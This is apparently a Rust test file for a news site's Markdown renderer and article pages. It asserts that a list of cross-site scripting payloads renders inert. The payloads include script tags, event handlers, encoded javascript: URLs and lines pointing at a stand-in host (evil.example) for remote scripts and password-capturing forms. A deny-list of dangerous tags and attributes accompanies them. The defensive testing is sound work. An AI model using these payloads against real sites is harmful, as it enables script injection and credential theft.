//! Hostile Markdown: whatever an author pastes, nothing in it can run in a reader's browser.

use reqwest::Method;
use scraper::{Html, Selector};
use serde_json::json;

use crate::helpers::TestApp;

/// Payloads from real attacks and filter-evasion cheat sheets.
pub(crate) const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">entities</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "[markdown link](javascript:alert(1))",
    "[encoded](javascript&#58;alert(1))",
    "![image](javascript:alert(1))",
    "![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<div style=\"background:url(javascript:alert(1))\">styled</div>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<button formaction=\"javascript:alert(1)\">go</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<p title=\"</p><script>alert(1)</script>\">quoted</p>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<table><td background=\"javascript:alert(1)\">cell</td></table>",
    "<a href=\"#\" onclick=\"alert(1)\">handler</a>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "```\n<script>alert('inside code is text')</script>\n```",
];

/// Every way a fragment of HTML could run code or restyle the page.
pub(crate) fn assert_inert(html: &str, context: &str) {
    let fragment = Html::parse_fragment(html);
    let all = Selector::parse("*").expect("selector");
    for element in fragment.select(&all) {
        let name = element.value().name();
        assert!(
            !matches!(
                name,
                "script"
                    | "style"
                    | "iframe"
                    | "object"
                    | "embed"
                    | "svg"
                    | "math"
                    | "form"
                    | "input"
                    | "button"
                    | "textarea"
                    | "link"
                    | "meta"
                    | "base"
                    | "video"
                    | "audio"
                    | "source"
                    | "template"
                    | "details"
                    | "marquee"
                    | "body"
                    | "noscript"
            ),
            "<{name}> survived in {context}: {html}"
        );
        for (attr, value) in element.value().attrs() {
            assert!(
                !attr.starts_with("on"),
                "handler {attr} survived in {context}: {html}"
            );
            assert!(
                !matches!(
                    attr,
                    "style" | "srcdoc" | "formaction" | "background" | "action"
                ),
                "{attr} survived in {context}: {html}"
            );
            if matches!(attr, "href" | "src" | "xlink:href") {
                let value: String = value
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect::<String>()
                    .to_ascii_lowercase();
                for scheme in ["javascript:", "data:", "vbscript:"] {
                    assert!(
                        !value.starts_with(scheme),
                        "{scheme} URL survived in {context}: {html}"
                    );
                }
            }
        }
    }
}

#[test]
fn every_payload_renders_inert() {
    assert!(PAYLOADS.len() >= 30);
    for payload in PAYLOADS {
        let html = newsdesk::markdown::render(payload);
        assert_inert(&html, payload);
    }
}

#[test]
fn code_blocks_show_scripts_as_text() {
    let html = newsdesk::markdown::render("```\n<script>alert(1)</script>\n```");
    assert!(html.contains("&lt;script&gt;"), "{html}");
}

#[tokio::test]
async fn hostile_articles_are_inert_on_the_public_page() {
    let app = TestApp::spawn().await;
    let body = PAYLOADS.join("\n\n");
    let article = app
        .published("<script>alert('title')</script> Headline", &body)
        .await;
    let (status, updated) = app
        .api(
            Method::PATCH,
            &format!("/articles/{}", article["id"]),
            Some(json!({"standfirst": "<img src=x onerror=alert(1)>", "version": 1,
                "lead_image": {"url": "/x.png", "alt": "\"><script>alert(1)</script>", "credit": "<b onclick=x>AFP</b>", "caption": "<svg onload=alert(1)>"}})),
        )
        .await;
    assert!(status.is_success(), "{updated}");
    let page = app
        .get(&format!(
            "/article/{}",
            article["slug"].as_str().expect("slug")
        ))
        .await
        .text()
        .await
        .expect("page");
    let document = Html::parse_document(&page);
    let body_selector = Selector::parse(".body").expect("selector");
    let body_html = document
        .select(&body_selector)
        .next()
        .expect("body")
        .inner_html();
    assert_inert(&body_html, "article body");
    // The only scripts a page may carry are the theme's own files, and JSON-LD data that
    // parses as JSON and holds no raw angle bracket that could end its element.
    let scripts = Selector::parse("script").expect("selector");
    for script in document.select(&scripts) {
        // JSON-LD, and the page's messages for its scripts: data the browser never runs.
        if matches!(
            script.value().attr("type"),
            Some("application/ld+json" | "application/json")
        ) {
            let data = script.inner_html();
            assert!(!data.contains('<'), "raw < in JSON-LD: {data}");
            serde_json::from_str::<serde_json::Value>(&data).expect("JSON-LD parses");
            continue;
        }
        assert!(
            script
                .value()
                .attr("src")
                .is_some_and(|s| s.starts_with("/static/")),
            "inline script: {}",
            script.html()
        );
    }
    let everything = Selector::parse("*").expect("selector");
    for element in document.select(&everything) {
        for (attr, _) in element.value().attrs() {
            assert!(
                !attr.starts_with("on"),
                "{attr} on <{}>",
                element.value().name()
            );
        }
    }
    assert!(
        page.contains("&lt;script&gt;alert(&#x27;title&#x27;)&lt;&#x2f;script&gt; Headline")
            || page.contains("&lt;script&gt;"),
        "the headline is shown as text"
    );
}
